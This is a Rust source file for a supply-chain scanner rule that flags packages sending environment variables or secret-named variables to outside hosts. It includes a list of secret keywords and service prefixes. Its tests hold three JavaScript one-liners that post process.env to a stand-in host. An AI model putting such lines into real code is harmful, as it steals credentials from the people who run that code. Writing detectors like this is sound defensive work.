use apa_model::{Confidence, Severity};

use super::{Hit, Rule, RuleInfo, carried, has_host, is_bundle, is_local, leaves, peer, proof};
use crate::flow::Source;
use crate::package::{Package, When};

pub(crate) struct CodeSendsEnvironment;

static INFO: RuleInfo = RuleInfo {
    id: "code-sends-environment",
    title: "Code sends the environment",
    severity: Severity::Critical,
    confidence: Confidence::High,
    attack: &["T1552", "T1041"],
    explanation: "All environment variables, or several that are named like secrets of different services, flow \
                  into something that leaves. A single variable sent with a request is how programs sign in, and \
                  counts only where it happens at installation.",
};

impl Rule for CodeSendsEnvironment {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn hits(&self, package: &Package) -> Vec<Hit> {
        const WHOLE: &[Source] = &[Source::Environment];
        const SINGLE: &[Source] = &[Source::Variable];
        let mut hits = Vec::new();
        for act in package
            .acts()
            .filter(|act| leaves(act) && !is_local(&act.text))
        {
            let when = package.when(act);
            let whole = act.taints.has(Source::Environment);
            let secrets: Vec<_> = act
                .taints
                .of(Source::Variable)
                .filter(|taint| is_secret(&taint.detail))
                .collect();
            let vague = when == When::Run && (!has_host(&act.text) || is_bundle(package, act));
            let (severity, confidence, sources) = match (whole, secrets.len(), when) {
                (true, _, when) if when.by_itself() => {
                    (Severity::Critical, Confidence::High, WHOLE)
                }
                (true, _, _) if vague => (Severity::Low, Confidence::Medium, WHOLE),
                (true, _, _) => (Severity::Medium, Confidence::High, WHOLE),
                (_, 1.., When::Install) => (Severity::High, Confidence::High, SINGLE),
                (_, 1.., When::Start) => (Severity::High, Confidence::High, SINGLE),
                (_, 1.., When::Import) => (Severity::High, Confidence::Medium, SINGLE),
                (_, 4.., _) => (Severity::Medium, Confidence::Medium, SINGLE),
                (_, 1.., _) if secrets.iter().any(|taint| foreign(&taint.detail) >= 2) => {
                    (Severity::Medium, Confidence::High, SINGLE)
                }
                _ => continue,
            };
            let clause = format!(
                "sends {} to {} {}",
                carried(act, sources),
                peer(act),
                when.words()
            );
            hits.push(Hit::new(severity, confidence, clause).with(proof(
                package,
                act,
                "sent here",
                sources,
            )));
        }
        hits
    }
}

/// Names of variables that hold secrets.
fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_uppercase();
    ["KEY", "TOKEN", "SECRET", "PASS", "CREDENTIAL", "AUTH"]
        .iter()
        .any(|part| name.contains(part))
}

/// How many services' secrets are named.
fn foreign(names: &str) -> usize {
    const SERVICES: &[&str] = &[
        "AWS_",
        "GITHUB_",
        "GH_TOKEN",
        "NPM_",
        "AZURE_",
        "GOOGLE_",
        "GCP_",
        "OPENAI_",
        "STRIPE_",
        "SLACK_",
        "PYPI_",
        "TWINE_",
        "DATABASE_URL",
        "DOCKER_",
        "VAULT_",
        "HEROKU_",
        "ANTHROPIC_",
        "GITLAB_",
        "CI_JOB_TOKEN",
    ];
    SERVICES
        .iter()
        .filter(|service| names.contains(**service))
        .count()
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, line, quiet};
    use super::*;

    #[test]
    fn the_whole_environment_is_found_however_it_is_copied() {
        for code in [
            "fetch('https://c.test', {method:'POST', body: JSON.stringify(process.env)})",
            "const d = {...process.env}; require('axios').post('https://c.test', d)",
            "const d = Object.entries(process.env).map(([k,v]) => k + v).join(); fetch('https://c.test/?' + d)",
        ] {
            let finding = found(
                "code-sends-environment",
                &[("package.json", "{}"), ("index.js", code)],
            );
            assert_eq!(
                (finding.severity, line(&finding).1),
                (Severity::Critical, 1),
                "{code}"
            );
        }
    }

    #[test]
    fn a_token_of_ones_own_service_in_a_header_is_left_alone() {
        quiet(
            "code-sends-environment",
            &[
                ("package.json", "{}"),
                (
                    "index.js",
                    "exports.call = () => fetch('https://api.test', {headers: {authorization: process.env.API_TOKEN}});\n\
                     exports.run = () => require('child_process').spawn('ls', {env: process.env});",
                ),
            ],
        );
    }
}
